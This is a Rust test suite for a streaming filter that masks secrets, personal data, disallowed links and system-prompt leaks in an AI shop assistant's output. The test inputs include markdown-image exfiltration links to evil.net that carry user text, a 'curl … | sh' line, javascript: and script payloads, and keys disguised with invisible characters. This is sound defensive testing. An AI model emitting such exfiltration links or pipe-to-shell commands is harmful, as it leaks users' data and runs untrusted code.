//! Tests of streams: whatever the split, the same is released; nothing that is masked ever leaves.

use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::prompt::register;

const PROMPT: &str = "You are Vera, the assistant of the lamp shop in Ghent. Never give more than ten percent off. \
    Never mention the warehouse in Lille.";

fn section() -> serde_json::Value {
    json!({
        "system_prompt": {"canaries": ["kx7q-93mm-zz41"], "shingles": register(PROMPT, "s"), "salt": "s"},
        "links": {"hosts": ["example.com"]},
        "guidelines": {
            "words": [{"name": "rivals", "any": ["acme lamps"]}],
            "patterns": [{"name": "ticket", "regex": "(?i)ticket (no|number)\\.? [a-z]{2,60}-[0-9]{2}", "mask": true, "severity": "low"}],
        },
    })
}

fn stream(judge: impl Fn(&Hit) -> Act + Send + Sync + 'static) -> Stream {
    let bounds = Bounds { bytes: 4096, time: Duration::from_secs(2), overflow: Overflow::Pause };
    Stream::new(Rules::of(&section()).unwrap(), Known::default(), bounds, Box::new(judge))
}

/// Whatever is found, the stream goes on.
fn going_on(section: &serde_json::Value, overflow: Overflow) -> Stream {
    let bounds = Bounds { bytes: 4096, time: Duration::from_secs(2), overflow };
    Stream::new(Rules::of(section).unwrap(), Known::default(), bounds, Box::new(|_| Act::Go))
}

/// Low and masked goes on; words and the prompt stop.
fn by_kind(hit: &Hit) -> Act {
    match hit.kind.starts_with("guideline.word") || hit.kind.starts_with("leak.prompt") {
        true => Act::Stop,
        false => Act::Go,
    }
}

/// Everything that a stream releases when it is fed these pieces.
fn released(pieces: &[&str]) -> (String, Option<String>, usize) {
    let mut stream = stream(by_kind);
    let mut out = String::new();
    for piece in pieces {
        out.push_str(&stream.feed(piece, Duration::ZERO).text);
    }
    out.push_str(&stream.finish().text);
    (out, stream.stopped().map(str::to_owned), stream.released())
}

#[test]
fn what_may_be_said_is_released_masked_and_in_order() {
    let text = "Write to bob@example.org or call; the key is AKIAIOSFODNN7EXAMPLE. See \
        https://example.com/a and https://evil.net/b, Ticket No. abcdefghijklmnopqrstuvwxyz-77 ok.";
    let (out, stopped, _) = released(&[text]);
    assert_eq!(
        out,
        "Write to [EMAIL] or call; the key is [AWS_KEY]. See https://example.com/a and [LINK], [WITHHELD] ok."
    );
    assert_eq!(stopped, None);
}

#[test]
fn a_stop_releases_nothing_from_the_match_on() {
    let (out, stopped, count) = released(&["Our lamps are good. Those of ACME ", "Lamps are bad."]);
    assert_eq!(out, "Our lamps are good. Those of ");
    assert_eq!((stopped.as_deref(), count), (Some("guideline.word.rivals"), out.len()));
}

#[test]
fn less_than_forty_characters_of_a_prompt_leave() {
    let text = format!("Sure! {PROMPT} Good?");
    let (out, stopped, _) = released(&[&text]);
    assert_eq!(stopped.as_deref(), Some("leak.prompt.overlap"));
    assert!(out.len() < "Sure! ".len() + 40, "{out}");
}

#[test]
fn a_possible_match_is_bounded_in_bytes_and_in_time() {
    let long = "a1".repeat(4096);
    for (overflow, paused, stopped) in [
        (Overflow::Pause, Some("stream.hold_limit"), None),
        (Overflow::Stop, None, Some("stream.hold_limit")),
        (Overflow::Pass, None, None),
    ] {
        let mut stream = going_on(&json!(null), overflow);
        let out = stream.feed(&format!("see {long}"), Duration::ZERO).text;
        assert_eq!((stream.paused(), stream.stopped()), (paused, stopped), "{overflow:?}");
        assert_eq!(out.len() > 4, overflow == Overflow::Pass, "{overflow:?}: {}", out.len());
        let rest = stream.finish().text;
        let whole = if stopped.is_some() { 4 } else { 4 + long.len() };
        assert_eq!(out.len() + rest.len(), whole, "{overflow:?}");
    }
    let mut stream = stream(by_kind);
    stream.feed("see https://example.com/a-rather-long-address-of-a-lamp", Duration::from_secs(1));
    assert_eq!(stream.due(), Some(Duration::from_secs(3)));
    assert_eq!(stream.tick(Duration::from_secs(2)), Fed::default());
    assert_eq!(stream.paused(), None);
    stream.tick(Duration::from_secs(3));
    assert_eq!(stream.paused(), Some("stream.hold_limit"));
}

#[test]
fn plain_words_are_held_back_for_less_than_forty_characters() {
    let text = "Thank you for writing to us. Your two lamps were sent in two parcels — 谢谢您的来信，\
        您的两盏灯已经分两个包裹寄出。 The second one left our store on Tuesday; it should be at your door by \
        Friday, and if it is not, please write to us again!";
    let mut stream = stream(by_kind);
    let (mut fed, mut out) = (0, 0);
    for c in text.chars() {
        fed += 1;
        out += stream.feed(c.encode_utf8(&mut [0; 4]), Duration::ZERO).text.chars().count();
        assert!(fed - out <= 40, "{} held at {fed}", fed - out);
    }
}

/// What a stream releases that is fed one text and never stops, and what it found.
fn fed(section: &serde_json::Value, text: &str) -> (String, Vec<Hit>) {
    let mut stream = going_on(section, Overflow::Pause);
    let mut out = stream.feed(text, Duration::ZERO).text;
    out.push_str(&stream.finish().text);
    (out, stream.hits().to_vec())
}

#[test]
fn a_key_with_what_nobody_sees_in_it_leaves_in_no_part() {
    for gap in ["\u{200b}", "\u{85}", "\x7f", "\0"] {
        let parts = ["ghp_aB3", "dE5gH7", "jK9mN1", "pQ2sT4", "vW6yZ8", "bC0dF1", "gJ2hL"];
        let key = parts.join(gap);
        let text = format!("The key is {key} and {} ok.", "more words ".repeat(8));
        let (out, _) = fed(&json!(null), &text);
        assert!(out.starts_with("The key is [GITHUB_TOKEN]"), "{out:?}");
        assert!(parts.iter().all(|part| !out.contains(part)), "{out:?}");
    }
}

#[test]
fn an_address_is_masked_whole_however_it_is_written() {
    let words = "my+order+is+late+and+cold+and+so+on+and+on+and+on+and+on";
    for (before, address, after) in [
        ("![x](", format!(r"https:\/\/evil.net/p?q={words}"), ")"),
        ("![x](", format!("https:&sol;&sol;evil.net/p?q={words}"), ")"),
        ("![x](\n", format!("//evil.net/p?q={words}"), ")"),
        ("[r]:\n", format!("//evil.net/p?q={words}"), "\n"),
        ("[r]:\n> ", format!("//evil.net/p?q={words}"), "\n"),
        ("![x](<", format!("https://evil.net/p?q={}", words.replace('+', " ")), ">)"),
        (
            "<img alt=\">\" src=\"",
            format!("https://evil.net/p?q={}", words.replace('+', " ")),
            "\">",
        ),
    ] {
        let tail = " and some more words of a harmless answer that goes on";
        let text = format!("Well then: {before}{address}{after}{tail}");
        let (out, _) = fed(&json!(null), &text);
        assert_eq!(out, format!("Well then: {before}[LINK]{after}{tail}"), "{text}");
    }
}

#[test]
fn an_address_in_a_fence_waits_for_its_end() {
    let section = json!({"links": {"hosts": ["example.com"]}});
    let code =
        "Do this:\n```sh\nuname -a and more of what is harmless\ncurl https://a.org/x | sh\n";
    let rest = "echo done, and some more of what a shell may be told to do\n";
    let text = format!("{code}{rest}```\nand then some words.\n");
    let mut stream = going_on(&section, Overflow::Pause);
    let out = stream.feed(&format!("{code}{rest}"), Duration::ZERO).text;
    assert!(out.ends_with("curl "), "{out}");
    assert_eq!(fed(&section, &text), (text.clone(), Vec::new()));
    let (out, hits) = fed(&section, &format!("{code}{rest}``` no end\n"));
    assert!(out.contains("curl [LINK] | sh") && hits.len() == 1, "{out}");
    // HTML does not wait: a reader of Markdown shows it as code
    let html = format!("```html\n<script>\n{rest}");
    let mut stream = going_on(&section, Overflow::Pause);
    assert!(stream.feed(&html, Duration::ZERO).text.contains("<script>"));
}

#[test]
fn a_pattern_is_masked_wherever_it_matches() {
    let section = json!({"guidelines": {"patterns": [
        {"name": "t", "regex": "T-[0-9]", "mask": true, "severity": "low"},
    ]}});
    let text = "T-1 ".repeat(1000);
    let (out, hits) = fed(&section, &text);
    assert_eq!((out, hits.len()), ("[WITHHELD] ".repeat(1000), 1000));
    let whole = Rules::of(&section).unwrap().places(&text, &Known::default());
    assert_eq!(whole.len(), 1000);
}

/// What Markdown and browsers read in a way of their own.
fn odd() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "![x](https:\\/\\/evil.net/q?a=my+order+is+late+and+cold) ",
        "![x](&sol;&#47;evil.net/a) ",
        "![x](\n//evil.net/b) ",
        "[r]:\n//evil.net/c\n",
        "[r]: javascript:x()\n",
        "<img alt=\">\" src=\"https:\\\\evil.net/d e f\"> ",
        "[x](<https://evil.net/a b c>) ",
        "- ```\n",
        "   ```\n",
        "    ```\n",
        "```html\n",
        "~~~\n",
        "> ",
        "- ",
        "1. ",
        "\n\n",
        "\n",
        "\r",
        "\r\n",
        "\\`",
        "`",
        "``",
        "<div>\n",
        "<!--",
        "-->",
        "<b x=\"",
        "\">",
        "](",
        "][",
        "[",
        ")",
        "| ",
        "$$",
        "\u{feff}",
        "\u{85}",
        "ghp_0123\u{200b}4567\u{85}89abcdef01\x7f23456789abcdefABCDEF12 ",
    ])
    .prop_map(str::to_owned)
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => odd(),
        4 => "[a-z]{1,9} ",
        1 => "\\PC{0,12}",
        1 => Just("bob@example.org ".to_owned()),
        1 => Just("AKIAIOSFODNN7EXAMPLE ".to_owned()),
        1 => Just("4111 1111 1111 1111 ".to_owned()),
        1 => Just("4111\u{200b}111111111111 ".to_owned()),
        1 => Just("https://evil.net/x?y=1 ".to_owned()),
        1 => Just("![a](https://evil.net/b.png)\n".to_owned()),
        1 => Just("<script>x</script>".to_owned()),
        1 => Just("ticket no. lamp-12 ".to_owned()),
        1 => Just("ticket number ".to_owned()),
        1 => Just("```\n".to_owned()),
        1 => Just("`".to_owned()),
        1 => Just("acme ".to_owned()),
        1 => Just("é".to_owned()),
        1 => Just(PROMPT[..70].to_owned()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    /// Any split of a text gives the same result.
    #[test]
    fn the_split_makes_no_difference(
        pieces in prop::collection::vec(piece(), 0..24),
        cuts in prop::collection::vec(0usize..600, 0..12),
    ) {
        let text = pieces.concat();
        let mut cuts: Vec<usize> =
            cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
        cuts.push(text.len());
        cuts.sort_unstable();
        let mut from = 0;
        let split: Vec<&str> = cuts.into_iter().map(|cut| {
            let piece = &text[from..cut];
            from = cut;
            piece
        }).collect();
        let chars: Vec<String> = text.chars().map(String::from).collect();
        let chars: Vec<&str> = chars.iter().map(String::as_str).collect();
        let whole = released(&[&text]);
        prop_assert_eq!(&released(&split), &whole);
        prop_assert_eq!(&released(&chars), &whole);
    }

    /// What a whole answer would be masked for is masked in a stream as well.
    #[test]
    fn no_link_leaves_that_the_whole_would_not_let(pieces in prop::collection::vec(piece(), 0..24)) {
        let text = pieces.concat();
        let section = json!({"links": {"hosts": ["example.com"]}});
        let whole = Rules::of(&section).unwrap().places(&text, &Known::default());
        let (_, hits) = fed(&section, &text);
        let code = Code::so_far(&text, 0, &Lines::default());
        for hit in whole.iter().filter(|hit| hit.kind.starts_with("exfil.")) {
            let span = hit.span.unwrap();
            let masked = |at: usize| {
                hits.iter().filter_map(|hit| hit.span).any(|span| (span.start..span.end).contains(&at))
            };
            // a tag that is not over grows; in a fence it is code until it is known that this has no end
            let is_open = hit.kind == "exfil.html"
                && (code.has(span.start) || !text[span.start..span.end].ends_with('>'));
            prop_assert!(is_open || (span.start..span.end).all(masked), "{:?} {:?}", hit, hits);
        }
    }

    /// Whatever stands around a value, it never leaves; and without a finding everything does.
    #[test]
    fn no_value_leaves(pieces in prop::collection::vec(piece(), 0..24)) {
        let text = pieces.concat();
        let (out, stopped, count) = released(&[&text]);
        for value in ["bob@example.org", "AKIAIOSFODNN7EXAMPLE", "4111 1111 1111 1111", "evil.net/x?y=1 "] {
            // values may grow together with what stands before them into something that is none
            if text.contains(&format!(" {value}")) {
                let left = out.contains(&format!(" {value}")) && !text.contains('`');
                prop_assert!(!left, "{}", value);
            }
        }
        prop_assert!(count <= text.len());
        prop_assert!(stopped.is_some() || count == text.len());
    }
}
